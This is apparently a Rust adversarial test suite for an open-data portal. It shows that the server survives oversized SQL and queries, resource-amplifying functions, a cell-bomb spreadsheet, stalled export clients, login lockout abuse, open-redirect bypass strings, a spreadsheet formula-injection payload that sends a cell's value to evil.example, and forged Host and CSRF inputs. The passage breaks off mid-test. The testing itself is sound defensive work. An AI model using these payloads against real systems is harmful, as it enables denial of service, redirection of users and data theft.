//! The adversarial suite: every class of hostile request a public portal
//! meets, against a real server, each followed by a check that the server
//! still answers an ordinary request. The hostile inputs are data: add a
//! row to a table to add a case.

use crate::common;

use std::io::Read as _;
use std::time::Duration;

use common::TestApp;
use serde_json::{Value, json};

/// The server answers an ordinary request (well within 10 s).
async fn alive(app: &TestApp) {
    let answer =
        tokio::time::timeout(Duration::from_secs(10), app.client.get(app.url("/api/3/action/status_show")).send())
            .await
            .expect("the server answers within 10 s")
            .expect("the server is up");
    assert_eq!(answer.status(), 200);
}

/// A published CSV table; its resource id.
async fn table(app: &TestApp, token: &str, name: &str, bytes: Vec<u8>) -> String {
    let dataset = app.dataset(token, name, "org-a", false).await;
    let created = app.upload(token, dataset["id"].as_str().unwrap(), bytes, &format!("{name}.csv")).await;
    let id = created["id"].as_str().unwrap().to_string();
    let resource = app.analysed(&id, None).await;
    assert_eq!(resource["datastore_active"], true, "{resource}");
    id
}

async fn demo_table(app: &TestApp, token: &str) -> String {
    table(app, token, "incidentes", include_bytes!("../../datalab/demo/incidentes_viales_ejemplo.csv").to_vec()).await
}

/// How a hostile request must be answered.
#[derive(Debug, Clone, Copy)]
enum Expect {
    /// This status.
    Status(u16),
    /// A page (200) that says why nothing is shown.
    PageSays(&'static str),
}

impl Expect {
    fn holds(self, status: u16, body: &str) -> bool {
        match self {
            Expect::Status(expected) => status == expected,
            Expect::PageSays(text) => status == 200 && body.contains(text),
        }
    }
}

fn words(count: usize) -> String {
    (0..count).map(|n| format!("palabra{n}")).collect::<Vec<_>>().join(" ")
}

/// Numbers that size work, and expressions built from input, in every
/// parameter that takes them: none may abort the process, overflow a stack
/// or answer 500.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sizes_and_depths_taken_from_requests_are_bounded() {
    let app = TestApp::start().await;
    let (_, token) = app.user("root", true).await;
    app.organization("org-a").await;
    let id = demo_table(&app, &token).await;
    let sum = format!("SELECT 1{}", "+1".repeat(2_000));
    let ands = format!("SELECT * FROM \"{id}\" WHERE true{}", " AND true".repeat(7_000));
    let unions = format!("SELECT 1{}", " UNION ALL SELECT 1".repeat(2_000));
    let nested = format!("SELECT {}1{}", "(".repeat(5_000), ")".repeat(5_000));
    let many_words = words(3_000);
    let parentheses = format!("{}agua{}", "(".repeat(3_000), ")".repeat(3_000));
    let many_filters: String = (0..2_000).map(|n| format!("municipio=M{n}")).collect::<Vec<_>>().join("&");
    let long_list: String = (0..5_000).map(|n| n.to_string()).collect::<Vec<_>>().join(",");
    let facets: String = (0..100).map(|_| "_facet=municipio").collect::<Vec<_>>().join("&");
    let filter_object: serde_json::Map<String, Value> =
        (0..2_000).map(|n| (format!("columna{n}"), json!("x"))).collect();
    let facet_fields = json!(vec!["tags"; 200]).to_string();

    // (what, GET path, or POST action with a JSON body, expected answer)
    let gets: Vec<(&str, String, Expect)> = vec![
        ("a huge start", "/api/3/action/package_search?start=100000000000".into(), Expect::Status(200)),
        (
            "the largest start",
            format!("/api/3/action/package_search?start={}&rows=1000", i64::MAX),
            Expect::Status(200),
        ),
        ("a huge page", "/api/v1/datasets?page=100000000000&page_size=1000".into(), Expect::Status(200)),
        ("the largest page", format!("/api/v1/datasets?page={}", u64::MAX), Expect::Status(200)),
        ("a huge page of the search page", "/dataset?page=100000000000".into(), Expect::Status(200)),
        ("3,000 words in q", format!("/api/3/action/package_search?q={many_words}"), Expect::Status(400)),
        ("nested parentheses in q", format!("/api/3/action/package_search?q={parentheses}"), Expect::Status(400)),
        ("200 facet fields", format!("/api/3/action/package_search?facet.field={facet_fields}"), Expect::Status(400)),
        ("3,000 words in _search", format!("/api/v1/resources/{id}/rows?_search={many_words}"), Expect::Status(409)),
        ("2,000 filters", format!("/api/v1/resources/{id}/rows?{many_filters}"), Expect::Status(409)),
        ("5,000 values in __in", format!("/api/v1/resources/{id}/rows?folio__in={long_list}"), Expect::Status(409)),
        ("100 facets", format!("/api/v1/resources/{id}/rows?{facets}"), Expect::Status(409)),
        ("2,000 filters in an export", format!("/api/v1/resources/{id}/rows.csv?{many_filters}"), Expect::Status(409)),
        (
            "3,000 words on the resource page",
            format!("/dataset/incidentes/resource/{id}?_search={many_words}"),
            Expect::PageSays("at most 32 words"),
        ),
        (
            "a huge offset",
            format!("/api/3/action/datastore_search?resource_id={id}&offset={}", i64::MAX),
            Expect::Status(200),
        ),
        ("a sum of 2,000 terms", format!("/api/v1/sql?sql={}", urlencode(&sum)), Expect::Status(409)),
        ("2,000 UNIONs", format!("/api/v1/sql?sql={}", urlencode(&unions)), Expect::Status(409)),
        ("5,000 nested parentheses", format!("/api/v1/sql?sql={}", urlencode(&nested)), Expect::Status(409)),
    ];
    for (what, path, expected) in &gets {
        let response = app
            .client
            .get(app.url(path))
            .send()
            .await
            .unwrap_or_else(|error| panic!("{what}: {}", &error.to_string()[..200.min(error.to_string().len())]));
        let status = response.status().as_u16();
        let body = response.text().await.unwrap();
        assert!(expected.holds(status, &body), "{what}: {status} {}", &body[..body.len().min(400)]);
        alive(&app).await;
    }
    let posts: Vec<(&str, &str, Value, Expect)> = vec![
        ("a sum of 2,000 terms", "datastore_search_sql", json!({"sql": sum}), Expect::Status(409)),
        ("7,000 ANDs", "datastore_search_sql", json!({"sql": ands}), Expect::Status(409)),
        ("3,000 words in q", "datastore_search", json!({"resource_id": id, "q": many_words}), Expect::Status(409)),
        (
            "2,000 filters",
            "datastore_search",
            json!({"resource_id": id, "filters": filter_object}),
            Expect::Status(409),
        ),
        (
            "5,000 listed values",
            "datastore_search",
            json!({"resource_id": id, "filters": {"folio": (0..5_000).collect::<Vec<_>>()}}),
            Expect::Status(409),
        ),
        (
            "a huge offset",
            "datastore_search",
            json!({"resource_id": id, "offset": i64::MAX, "limit": 32_000}),
            Expect::Status(200),
        ),
        ("a huge start", "package_search", json!({"start": i64::MAX, "rows": 1000}), Expect::Status(200)),
        (
            "a sort by 100 columns",
            "datastore_search",
            json!({"resource_id": id, "sort": vec!["folio"; 100].join(",")}),
            Expect::Status(409),
        ),
    ];
    for (what, action, body, expected) in posts {
        let (status, answer) = app.ckan(action, None, body).await;
        let answer = answer.to_string();
        assert!(expected.holds(status, &answer), "{what}: {status} {}", &answer[..answer.len().min(400)]);
        alive(&app).await;
    }
    // Long SQL goes in a body.
    let xors = format!("SELECT true{}", " XOR true".repeat(7_000));
    for (what, sql) in
        [("7,000 ANDs", &ands), ("a sum of 2,000 terms", &sum), ("2,000 UNIONs", &unions), ("7,000 XORs", &xors)]
    {
        let response = app.client.post(app.url("/api/v1/sql")).json(&json!({"sql": sql})).send().await.unwrap();
        assert_eq!(response.status(), 409, "{what}");
        let body = response.text().await.unwrap();
        assert!(body.contains("operators"), "{what}: {}", &body[..body.len().min(400)]);
        alive(&app).await;
    }
    // Past the end, the pages are empty and say how many there are.
    let (_, answer) = app.ckan_get("datastore_search", None, &[("resource_id", &id), ("offset", "100000000000")]).await;
    assert_eq!((answer["result"]["total"].clone(), answer["result"]["records"].clone()), (json!(300), json!([])));
}

fn urlencode(text: &str) -> String {
    percent_encoding::utf8_percent_encode(text, percent_encoding::NON_ALPHANUMERIC).to_string()
}

/// Work past its time limit stops, and functions that make gigabytes from
/// a few bytes of SQL are refused before they allocate.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn queries_stop_at_their_limits() {
    let query = datalab_query::QuerySettings { time_limit: Duration::from_secs(2), ..Default::default() };
    let app = TestApp::with_settings(10 << 20, TestApp::web_settings(), query).await;
    let (_, token) = app.user("root", true).await;
    app.organization("org-a").await;
    let id = demo_table(&app, &token).await;
    let sql = |text: &str| {
        let url = app.url(&format!("/api/v1/sql?sql={}", urlencode(text)));
        let client = app.client.clone();
        async move {
            let response = client.get(url).send().await.unwrap();
            (response.status().as_u16(), response.text().await.unwrap())
        }
    };
    for (generator, named) in [
        ("SELECT count(*) FROM (SELECT unnest(range(1, 100000000)))", "range"),
        ("SELECT repeat('a', 500000000)", "repeat"),
        ("SELECT lpad('a', 500000000)", "lpad"),
        ("SELECT array_repeat(1, 500000000)", "array_repeat"),
        (&format!("SELECT length(repeat(observaciones, 100000)) FROM \"{id}\""), "repeat"),
        ("SELECT length(replace(lpad('', 16000000, 'x'), 'x', lpad('', 1000, 'y')))", "replace"),
        // Each side under the bound, joined past it; chains of || add up the same way.
        ("WITH t AS (SELECT repeat('x', 20000000) AS a) SELECT length(a || a || a || a) FROM t", "||"),
        (
            "SELECT cardinality(range(arrow_cast(-95000000, 'Date32'), arrow_cast(95000000, 'Date32'), INTERVAL '1 day'))",
            "range",
        ),
    ] {
        let (status, body) = sql(generator).await;
        assert_eq!(status, 409, "{generator}: {body}");
        assert!(body.contains(named) && body.contains("MB"), "{generator}: {body}");
        alive(&app).await;
    }
    // Ordinary uses of the same functions pass.
    for ordinary in [
        "SELECT cardinality(range(DATE '2020-01-01', DATE '2020-12-31', INTERVAL '1 day')) AS n".to_string(),
        format!("SELECT lpad(municipio, 30, '.') AS m, repeat('-', 3) AS r, municipio || ' NL' AS c FROM \"{id}\""),
        format!("SELECT replace(observaciones, 'a', 'á') AS o, concat(folio, '-', fecha) AS f FROM \"{id}\""),
        // `||` as SQL has it: null with a null side, in filters, nested, under its own name.
        "SELECT ('a' || NULL) IS NULL AS nulo, 'x' || 'y' || 'z' AS xyz".to_string(),
        format!("SELECT municipio || '-' || folio FROM \"{id}\" WHERE municipio || 'x' = 'Monterreyx'"),
        format!("SELECT count(*) AS n FROM (SELECT municipio || ' NL' AS m FROM \"{id}\") WHERE m LIKE '% NL'"),
    ] {
        let (status, body) = sql(&ordinary).await;
        assert_eq!(status, 200, "{ordinary}: {}", &body[..body.len().min(300)]);
    }
    // A join whose few rows multiply into billions: two at once, past the limit.
    let join = format!(
        "SELECT count(*) FROM \"{id}\" a JOIN \"{id}\" b ON a.municipio = b.municipio \
         JOIN \"{id}\" c ON b.municipio = c.municipio JOIN \"{id}\" d ON c.municipio = d.municipio \
         JOIN \"{id}\" e ON d.municipio = e.municipio JOIN \"{id}\" f ON e.municipio = f.municipio"
    );
    let (first, second) = tokio::join!(sql(&join), sql(&join));
    for (status, body) in [first, second] {
        assert_eq!(status, 409, "{body}");
        assert!(body.contains("took longer than the limit"), "{body}");
    }
    // Their work stopped with them: both SQL slots are free again, so a
    // query gets one (it would wait and get 429 behind work that went on).
    let (status, body) = sql("SELECT 1 AS uno").await;
    assert_eq!(status, 200, "{body}");
    let (status, body) = sql(&format!("SELECT count(*) AS n FROM \"{id}\"")).await;
    assert_eq!((status, body.contains("300")), (200, true), "{body}");
    // An expression of its own making that fails is the caller's error.
    let (status, body) = sql("SELECT regexp_like('a', 'a{1000}{1000}{1000}')").await;
    assert_eq!(status, 409, "{body}");
    alive(&app).await;
}

/// A GET of an export that reads nothing after the headers: a client that stalls.
async fn stalled_export(app: &TestApp, path: &str, address: &str) -> tokio::net::TcpStream {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let socket = tokio::net::TcpSocket::new_v4().unwrap();
    socket.set_recv_buffer_size(4096).unwrap();
    let mut stream = socket.connect(app.base.trim_start_matches("http://").parse().unwrap()).await.unwrap();
    let request = format!("GET {path} HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: {address}\r\n\r\n");
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut head = [0u8; 12];
    stream.read_exact(&mut head).await.unwrap();
    assert_eq!(&head[9..12], b"200", "the export started");
    stream
}

/// Exports have their own pool, waiting for it has a deadline, a client
/// that stops reading is cut, and one address cannot take every slot.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_clients_cannot_hold_the_shared_slots() {
    let query = datalab_query::QuerySettings {
        time_limit: Duration::from_secs(1),
        max_exports: 1,
        export_idle_timeout: Duration::from_secs(1),
        ..Default::default()
    };
    let web = datalab_web::WebSettings { heavy_requests_per_address: 1, ..TestApp::web_settings() };
    let app = TestApp::with_settings(128 << 20, web, query).await;
    let (_, token) = app.user("root", true).await;
    app.organization("org-a").await;
    // 300,000 rows, about 22 MB of CSV: more than the sockets' buffers and the export's channel hold.
    let mut csv = String::from("folio,municipio,texto\n");
    for n in 0..300_000 {
        csv.push_str(&format!("{n},Municipio {},texto de relleno para ocupar espacio en la fila {n}\n", n % 51));
    }
    let id = table(&app, &token, "grande", csv.into_bytes()).await;
    let export = format!("/api/v1/resources/{id}/rows.csv");

    let stalled = stalled_export(&app, &export, "203.0.113.1").await;
    // The same address again: refused at once, with Retry-After.
    let again = app.client.get(app.url(&export)).header("X-Forwarded-For", "203.0.113.1").send().await.unwrap();
    assert_eq!(again.status(), 429);
    assert!(again.headers().contains_key("retry-after"));
    // Another address: the one export slot is taken; it waits at most the time limit, then 429.
    let waiting = app.client.get(app.url(&export)).header("X-Forwarded-For", "198.51.100.1").send().await.unwrap();
    assert_eq!(waiting.status(), 429);
    assert!(waiting.headers().contains_key("retry-after"));
    // SQL has a pool of its own: it runs meanwhile.
    let sql =
        app.client.get(app.url(&format!("/api/v1/sql?sql={}", urlencode("SELECT 1 AS uno")))).send().await.unwrap();
    assert_eq!(sql.status(), 200);
    alive(&app).await;
    // The stalled client is cut after its idle timeout, and its slot comes back.
    tokio::time::sleep(Duration::from_secs(3)).await;
    let whole = app.client.get(app.url(&export)).header("X-Forwarded-For", "198.51.100.1").send().await.unwrap();
    assert_eq!(whole.status(), 200);
    assert_eq!(whole.text().await.unwrap().lines().count(), 300_001);
    // What the stalled client gets, read now, does not end as a whole
    // download would: the cut is an error, not a short file.
    let mut stalled = stalled;
    let mut received = Vec::new();
    let read = tokio::time::timeout(
        Duration::from_secs(20),
        tokio::io::AsyncReadExt::read_to_end(&mut stalled, &mut received),
    )
    .await;
    assert!(read.is_ok(), "the cut connection ends");
    assert!(!received.ends_with(b"\r\n0\r\n\r\n"), "a cut export must not look whole");
    alive(&app).await;
}

/// Every export format, downloaded as a browser does (gzip accepted), is
/// byte for byte the uncompressed download.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn compressed_exports_are_whole() {
    let app = TestApp::start().await;
    let (_, token) = app.user("root", true).await;
    app.organization("org-a").await;
    let id = demo_table(&app, &token).await;
    for format in ["csv", "tsv", "ndjson", "parquet", "xlsx"] {
        let url = app.url(&format!("/api/v1/resources/{id}/rows.{format}?_sort=folio"));
        let plain = app.client.get(&url).send().await.unwrap().bytes().await.unwrap();
        let response = app.client.get(&url).header("Accept-Encoding", "gzip").send().await.unwrap();
        assert_eq!(response.status(), 200, "{format}");
        let gzip = response.headers().get("content-encoding").is_some_and(|value| value == "gzip");
        let body = response.bytes().await.unwrap();
        let unpacked = if gzip {
            let mut unpacked = Vec::new();
            flate2::read::GzDecoder::new(&body[..]).read_to_end(&mut unpacked).unwrap();
            unpacked
        } else {
            body.to_vec()
        };
        if format != "xlsx" {
            assert_eq!(unpacked, plain, "{format}: {} bytes against {}", unpacked.len(), plain.len());
        } else {
            // A workbook records its time of writing (docProps/core.xml); every other part is exact.
            assert_eq!(workbook_parts(&unpacked), workbook_parts(&plain), "xlsx");
        }
        assert!(plain.len() > 1000, "{format}: {} bytes", plain.len());
        if matches!(format, "csv" | "tsv" | "ndjson") {
            assert!(gzip, "{format} is compressed for browsers that accept it");
        }
        alive(&app).await;
    }
    // Stored files keep their length and ranges: they are never recompressed.
    let (_, resource) = app.ckan_get("resource_show", None, &[("id", &id)]).await;
    let download = app
        .client
        .get(resource["result"]["url"].as_str().unwrap())
        .header("Accept-Encoding", "gzip")
        .send()
        .await
        .unwrap();
    assert!(download.headers().get("content-encoding").is_none());
    assert!(download.headers().contains_key("content-length"));
}

/// A workbook's parts by name, without the one that holds its time of writing.
fn workbook_parts(bytes: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut parts = Vec::new();
    for index in 0..archive.len() {
        let mut entry = archive.by_index(index).unwrap();
        let name = entry.name().unwrap().to_string();
        let mut content = Vec::new();
        entry.read_to_end(&mut content).unwrap();
        if name != "docProps/core.xml" {
            parts.push((name, content));
        }
    }
    assert!(parts.iter().any(|(name, _)| name.contains("sheet1.xml")), "a sheet: {:?}", parts.len());
    parts
}

/// A multipart body with as many fields as the server will take, each as
/// large as it allows, or a file where none is taken, keeps nothing.
#[tokio::test]
async fn bodies_are_bounded_as_they_stream() {
    let app = TestApp::start().await;
    let (_, token) = app.user("root", true).await;
    app.organization("org-a").await;
    let org_b = app.organization("org-b").await;
    let (editor_b, editor_b_token) = app.user("editor-b", false).await;
    app.member(&org_b, &editor_b, datalab_core::Capacity::Editor).await;
    let dataset = app.dataset(&token, "cuerpos", "org-a", false).await;
    let dataset_id = dataset["id"].as_str().unwrap().to_string();
    let part = |bytes: Vec<u8>| reqwest::multipart::Part::bytes(bytes).file_name("datos.csv");
    let many_fields =
        (0..1_500).fold(reqwest::multipart::Form::new(), |form, n| form.text(format!("campo{n}"), "x".repeat(1000)));
    let big_fields = (0..20)
        .fold(reqwest::multipart::Form::new(), |form, n| form.text(format!("campo{n}"), "x".repeat(1024 * 1024)));
    let cases: Vec<(&str, &str, Option<&str>, reqwest::multipart::Form, u16)> = vec![
        ("1,500 fields", "status_show", None, many_fields, 400),
        ("20 fields of 1 MiB", "status_show", None, big_fields, 413),
        (
            "a file to a read action",
            "status_show",
            None,
            reqwest::multipart::Form::new().part("upload", part(b"a,b\n1,2\n".to_vec())),
            400,
        ),
        (
            "a file to a read action, signed in",
            "package_show",
            Some(&token),
            reqwest::multipart::Form::new().text("id", "cuerpos").part("upload", part(b"a,b\n1,2\n".to_vec())),
            400,
        ),
        (
            "an anonymous upload",
            "resource_create",
            None,
            reqwest::multipart::Form::new()
                .text("package_id", dataset_id.clone())
                .part("upload", part(b"a,b\n3,4\n".to_vec())),
            400,
        ),
        (
            "an upload ignored by the action",
            "package_patch",
            Some(&token),
            reqwest::multipart::Form::new().text("id", "cuerpos").text("notes", "x"),
            200,
        ),
        // Larger than the upload limit, by someone who may not write the
        // dataset: refused as forbidden before a byte is stored (not as too large).
        (
            "someone else's dataset",
            "resource_create",
            Some(&editor_b_token),
            reqwest::multipart::Form::new()
                .text("package_id", dataset_id.clone())
                .part("upload", part(vec![b'x'; 12 << 20])),
            403,
        ),
    ];
    for (what, action, token, form, expected) in cases {
        let mut request = app.client.post(app.url(&format!("/api/3/action/{action}"))).multipart(form);
        if let Some(token) = token {
            request = request.header("Authorization", token);
        }
        let response = request.send().await.unwrap();
        assert_eq!(response.status().as_u16(), expected, "{what}: {}", response.text().await.unwrap());
        assert!(app.stored_blobs().is_empty(), "{what}: a file was kept: {:?}", app.stored_blobs());
        alive(&app).await;
    }
    // A blob nothing refers to (left by a crash between upload and save) is
    // swept once it is older than the grace; a new one, and a used one, stay.
    let kept = app.upload(&token, &dataset_id, b"a,b\n5,6\n".to_vec(), "usado.csv").await;
    let orphan = app
        .state
        .app
        .files
        .put_stream(futures_util::stream::iter([Ok::<_, std::io::Error>(bytes::Bytes::from_static(b"huerfano"))]))
        .await
        .unwrap();
    assert_eq!(datalab_app::sweeps::sweep_blobs(app.app()).await.unwrap(), 0, "young blobs stay");
    let orphan_path = app.files_dir().join(&orphan.key);
    let old = std::time::SystemTime::now() - Duration::from_secs(2 * 60 * 60);
    std::fs::File::options().write(true).open(&orphan_path).unwrap().set_modified(old).unwrap();
    let used_path = app.stored_blobs().into_iter().find(|path| *path != orphan_path).unwrap();
    std::fs::File::options().write(true).open(&used_path).unwrap().set_modified(old).unwrap();
    assert_eq!(datalab_app::sweeps::sweep_blobs(app.app()).await.unwrap(), 1);
    assert!(!orphan_path.exists() && used_path.exists());
    // Temporary files and unreferenced tables: swept when old, kept when
    // young (another process's upload or analysis in progress).
    let tables = app.files_dir().parent().unwrap().join("tables");
    std::fs::create_dir_all(tables.join("tmp")).unwrap();
    let leftovers =
        [tables.join("tmp/viejo.parquet"), app.files_dir().join("tmp/viejo"), tables.join("tmp/nuevo.parquet")];
    for path in &leftovers {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, b"x").unwrap();
    }
    for path in &leftovers[..2] {
        std::fs::File::options().write(true).open(path).unwrap().set_modified(old).unwrap();
    }
    assert_eq!(datalab_app::sweeps::sweep_leftovers(app.app()).await.unwrap(), 2);
    assert!(!leftovers[0].exists() && !leftovers[1].exists() && leftovers[2].exists());
    let download = app.client.get(kept["url"].as_str().unwrap()).send().await.unwrap();
    assert_eq!(download.text().await.unwrap(), "a,b\n5,6\n");
    // What the test published is analysed, as a worker would.
    app.run_jobs().await;
}

/// An ODS file whose only sheet is `content`.
fn ods(content: &str) -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(&mut bytes));
    let stored = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    zip.start_file("mimetype", stored).unwrap();
    std::io::Write::write_all(&mut zip, b"application/vnd.oasis.opendocument.spreadsheet").unwrap();
    zip.start_file("content.xml", zip::write::SimpleFileOptions::default()).unwrap();
    std::io::Write::write_all(&mut zip, content.as_bytes()).unwrap();
    zip.finish().unwrap();
    bytes
}

/// An ODS of a few hundred bytes whose repeated rows and cells make 30
/// million cells is refused before they are made, naming the limit.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn amplifying_workbooks_are_refused() {
    let app = TestApp::start().await;
    let (_, token) = app.user("root", true).await;
    app.organization("org-a").await;
    let dataset = app.dataset(&token, "bomba", "org-a", false).await;
    let content = concat!(
        r#"<?xml version="1.0" encoding="UTF-8"?><office:document-content "#,
        r#"xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" "#,
        r#"xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" "#,
        r#"xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">"#,
        r#"<office:body><office:spreadsheet><table:table table:name="Hoja1">"#,
        r#"<table:table-row><table:table-cell office:value-type="string"><text:p>a</text:p></table:table-cell></table:table-row>"#,
        r#"<table:table-row table:number-rows-repeated="10000"><table:table-cell office:value-type="float" "#,
        r#"office:value="1" table:number-columns-repeated="3000"><text:p>1</text:p></table:table-cell></table:table-row>"#,
        r#"</table:table></office:spreadsheet></office:body></office:document-content>"#
    );
    let bytes = ods(content);
    assert!(bytes.len() < 2_000, "{} bytes", bytes.len());
    let created = app.upload(&token, dataset["id"].as_str().unwrap(), bytes, "bomba.ods").await;
    let resource = app.analysed(created["id"].as_str().unwrap(), None).await;
    let analysis = &resource["datalab_analysis"];
    assert_eq!(analysis["status"], "failed", "{analysis}");
    let error = analysis["error"].as_str().unwrap_or_default();
    assert!(error.contains("20000000 cells"), "{analysis}");
    alive(&app).await;

    // Under the cells' bound, but each copied cell holds 64 KB of text in an attribute.
    let text = "x".repeat(64 * 1024);
    let content = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body><office:spreadsheet><table:table table:name="Hoja1"><table:table-row table:number-rows-repeated="1000"><table:table-cell office:value-type="string" office:string-value="{text}" table:number-columns-repeated="16384"/></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"#
    );
    let created = app.upload(&token, dataset["id"].as_str().unwrap(), ods(&content), "texto.ods").await;
    let resource = app.analysed(created["id"].as_str().unwrap(), None).await;
    let analysis = &resource["datalab_analysis"];
    assert_eq!(analysis["status"], "failed", "{analysis}");
    assert!(analysis["error"].as_str().unwrap_or_default().contains("bytes"), "{analysis}");
    alive(&app).await;
}

/// Ten wrong passwords for someone else's account lock out neither its
/// owner nor another address; the guesser waits.
#[tokio::test]
async fn login_limits_are_not_a_weapon() {
    let app = TestApp::start().await;
    app.user("ana", false).await;
    let login = |client: reqwest::Client, address: &'static str, password: &'static str| {
        let app = &app;
        async move {
            let csrf = app.csrf_token(&client).await;
            client
                .post(app.url("/user/login"))
                .header("X-Forwarded-For", address)
                .form(&[("csrf_token", csrf.as_str()), ("login", "ana"), ("password", password)])
                .send()
                .await
                .unwrap()
                .status()
                .as_u16()
        }
    };
    let attacker = TestApp::new_client();
    let mut statuses = Vec::new();
    for _ in 0..10 {
        statuses.push(login(attacker.clone(), "203.0.113.66", "adivinanza").await);
    }
    assert_eq!(&statuses[..3], [401, 401, 401]);
    assert!(statuses[3..].iter().all(|status| *status == 429), "{statuses:?}");
    assert_eq!(login(attacker.clone(), "203.0.113.66", common::PASSWORD).await, 429, "the guesser waits");
    assert_eq!(login(TestApp::new_client(), "198.51.100.7", common::PASSWORD).await, 303, "the owner signs in");
    alive(&app).await;
}

/// After sign-in the browser stays on this site, however `next` is written.
#[tokio::test]
async fn redirects_after_sign_in_stay_on_the_site() {
    let app = TestApp::start().await;
    app.user("ana", false).await;
    for (next, expected) in [
        ("/\t/evil.example/", "/"),
        ("/\n/evil.example/", "/"),
        ("/\\evil.example", "/"),
        ("\\\\evil.example", "/"),
        ("https://evil.example", "/"),
        ("//evil.example", "/"),
        ("/\u{0b}/x", "/%0B/x"),
        ("/..//evil.example", "/"),
        ("/.//evil.example", "/"),
        ("/%2e%2e//evil.example", "/"),
        ("/a/..//evil.example", "/"),
        ("/dataset?q=agua#resultados", "/dataset?q=agua#resultados"),
    ] {
        let client = TestApp::new_client();
        let csrf = app.csrf_token(&client).await;
        let response = client
            .post(app.url("/user/login"))
            .form(&[("csrf_token", csrf.as_str()), ("login", "ana"), ("password", common::PASSWORD), ("next", next)])
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 303, "next={next:?}");
        assert_eq!(response.headers()["location"], expected, "next={next:?}");
    }
    alive(&app).await;
}

/// Evidence is shown as the viewer may see it now: a private dataset
/// attached by a member shows to others as not available.
#[tokio::test]
async fn evidence_is_checked_against_the_viewer() {
    let app = TestApp::start().await;
    let (_, root) = app.user("root", true).await;
    let (_, mut milestones) = common::commitment(&app).await;
    app.organization("org-a").await;
    let private = app.dataset(&root, "nomina-confidencial", "org-a", true).await;
    let public = app.dataset(&root, "presupuesto-abierto", "org-a", false).await;
    let before = milestones.remove(0);
    let mut milestone = before.clone();
    for dataset in [&private, &public] {
        milestone.evidence.push(datalab_core::accountability::Evidence {
            id: uuid::Uuid::new_v4(),
            target: datalab_core::accountability::EvidenceTarget::Dataset {
                dataset_id: dataset["id"].as_str().unwrap().parse().unwrap(),
            },
            note: String::new(),
            added_by: None,
            added_at: datalab_store::now(),
        });
    }
    app.store().update_milestones(None, &[(before, milestone, String::new())]).await.unwrap();
    for path in ["/commitment/MXNLE0001/milestone/1", "/commitment/MXNLE0001/report"] {
        let page = app.page(path).await;
        assert!(
            !page.contains("Conjunto nomina-confidencial") && !page.contains("/dataset/nomina-confidencial"),
            "{path}"
        );
        assert!(page.contains("No disponible"), "{path}");
        assert!(page.contains("Conjunto presupuesto-abierto"), "{path}");
    }
    let (admin, _) = app.signed_in_client("root").await;
    let page = admin.get(app.url("/commitment/MXNLE0001/milestone/1")).send().await.unwrap().text().await.unwrap();
    assert!(page.contains("Conjunto nomina-confidencial"), "a reader who may see it sees it");
    alive(&app).await;
    // The tracker's catalog copy the updates refreshed is analysed, as a worker would.
    app.run_jobs().await;
}

/// Text typed by anyone never becomes a formula in a spreadsheet, and the
/// export imported back changes nothing.
#[tokio::test]
async fn csv_exports_neutralise_formulas() {
    let app = TestApp::start().await;
    let (commitment, mut milestones) = common::commitment(&app).await;
    let before = milestones.remove(0);
    let mut milestone = before.clone();
    milestone.status = datalab_core::accountability::MilestoneStatus::Stuck;
    milestone.blocker_reason = "=HYPERLINK(\"http://evil.example/?\"&A1,\"ver\")".into();
    milestone.blocker_owner = "@SUM(1+1)".into();
    app.store().update_milestones(None, &[(before, milestone, String::new())]).await.unwrap();
    let csv = app.page("/commitment/MXNLE0001/milestones.csv").await;
    assert!(csv.contains("'=HYPERLINK"), "{csv}");
    assert!(csv.contains("'@SUM(1+1)"), "{csv}");
    assert!(!csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"), "{csv}");
    let (root, _) = app.user("root", true).await;
    let actor = datalab_core::Actor::user(root.id, true, Default::default());
    let plan = datalab_app::accountability::plan_import(app.app(), &actor, None, &commitment, csv.as_bytes()).await;
    assert!(matches!(&plan, Ok(updates) if updates.is_empty()), "re-importing the export changes nothing");
    alive(&app).await;
}

/// Every answer carries the policy headers; links never come from a forged
/// `Host`; a CSRF token from a cookie an attacker planted is refused once
/// signed in.
#[tokio::test]
async fn headers_links_and_tokens() {
    let app = TestApp::start().await;
    app.user("ana", false).await;
    for path in ["/", "/api/3/action/status_show", "/no-existe", "/api/v1/datasets"] {
        let response = app.client.get(app.url(path)).send().await.unwrap();
        let headers = response.headers();
        let policy = headers["content-security-policy"].to_str().unwrap();
        assert!(policy.contains("frame-ancestors 'none'") && policy.contains("default-src 'none'"), "{path}");
        assert_eq!(headers["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(headers["referrer-policy"], "strict-origin-when-cross-origin", "{path}");
    }
    let forged =
        app.client.get(app.url("/api/3/action/status_show")).header("Host", "evil.example").send().await.unwrap();
    let body: Value = forged.json().await.unwrap();
    assert!(body["help"].as_str().unwrap().starts_with("http://localhost/"), "{body}");
    let loopback = app.page("/api/3/action/status_show").await;
    assert!(loopback.contains(&app.base), "a loopback Host is kept: {loopback}");

    // A CSRF cookie planted before sign-in (from a sibling site, say) is
    // worth nothing once signed in: the token is the session's.
    let planted = "a".repeat(64);
    let jar = std::sync::Arc::new(reqwest::cookie::Jar::default());
    let site: reqwest::Url = app.base.parse().unwrap();
